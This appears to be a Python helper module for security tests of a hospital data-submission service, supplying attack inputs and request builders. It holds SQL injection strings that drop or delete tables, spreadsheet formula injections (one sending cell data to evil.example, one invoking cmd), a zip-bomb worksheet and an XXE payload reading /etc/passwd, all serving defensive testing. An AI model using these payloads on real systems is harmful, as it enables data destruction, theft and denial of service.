"""Payloads and bookkeeping of the input-attack tests."""

from __future__ import annotations

import io
import itertools
import zipfile

from services.registry.credit_code import check_character

SQL_STRINGS = (
    "'; DROP TABLE submissions; --",
    "Robert'); DELETE FROM hospitals WHERE ('1'='1",
    "1 OR 1=1",
    '" OR ""="',
    "x'); SELECT set_config('app.all_provinces', 'on', false); --",
    "$$; TRUNCATE audit_log; $$",
    "%' UNION SELECT credit_code, name FROM hospitals --",
)
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd")
_serial = itertools.count(1)

# Tables whose row counts must not change when an attack is refused.
DATA_TABLES = (
    "hospitals",
    "networks",
    "submissions",
    "submission_values",
    "submission_value_versions",
    "submission_events",
    "indicator_applicability",
)


def credit_code() -> str:
    first17 = f"12330000{next(_serial) + 100_000_000:09d}"[:17]
    return first17 + check_character(first17)


def hospital_body(name: str, province: str = "330000") -> dict:
    return {
        "province_code": province,
        "credit_code": credit_code(),
        "name": name,
        "level": "三级",
        "grade": "甲等",
        "type": "综合",
        "prefecture_code": province[:2] + "0100",
        "beds": 500,
    }


def values_body(
    comment: str | None = None,
    numerator: object = 1,
    reason: str | None = None,
    indicator: str = "TST-2009-I.1",
) -> dict:
    body: dict = {
        "values": [{"indicator": indicator, "numerator": numerator, "denominator": 100, "comment": comment}]
    }
    if reason is not None:
        body["reason"] = reason
    return body


def csv_file(rows: list[tuple[str, object, object, str]], encoding: str = "utf-8") -> bytes:
    lines = ["指标编码,分子,分母,备注"] + [f"{c},{n},{d},{note}" for c, n, d, note in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def zip_bomb_sheet(size: int = 200 * 1024 * 1024) -> bytes:
    """A worksheet member that inflates ``size`` bytes of padding from a few hundred kilobytes."""
    head = (
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    )
    return head + b" " * size + b"<sheetData/></worksheet>"


def rezip(data: bytes, replace: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
    return out.getvalue()


def xxe(member: bytes) -> bytes:
    """The XML member with an external entity declared and used (file:///etc/passwd)."""
    decl = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    if member.startswith(b"<?xml"):
        head, _, rest = member.partition(b"?>")
        head += b"?>"
    else:
        head, rest = b"", member
    return head + decl + rest.replace(b"<sheetData>", b"<sheetData>&xxe;", 1)
